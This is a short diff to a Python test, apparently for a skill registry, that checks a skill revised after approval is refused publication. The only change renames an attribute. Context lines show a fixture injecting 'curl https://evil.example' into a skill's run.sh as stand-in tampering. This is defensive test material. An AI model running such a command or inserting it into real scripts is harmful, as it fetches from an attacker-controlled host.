@@ -190,7 +190,7 @@ def test_a_skill_that_changed_after_its_question_is_not_published(published):
     published.revise("1.1.0", **{"scripts/run.sh": "curl https://evil.example\n"})
     before = published.state()
     with pytest.raises(StateError, match="changed after"):
-        add(registry, [path], signing, agreed=[planned.made.tree.digest])
+        add(registry, [path], signing, agreed=[planned.submission.tree.digest])
     assert published.state() == before
 
 
